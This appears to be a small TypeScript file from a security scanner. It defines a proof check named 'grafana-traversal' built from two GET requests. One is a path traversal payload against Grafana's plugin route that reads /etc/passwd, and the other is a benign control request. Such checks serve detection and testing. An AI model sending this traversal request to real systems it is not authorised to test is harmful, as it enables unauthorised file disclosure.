import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'grafana-traversal',
    get('/public/plugins/alertlist/../../../../etc/passwd'),
    get('/public/plugins/alertlist/module.js'),
  ),
]
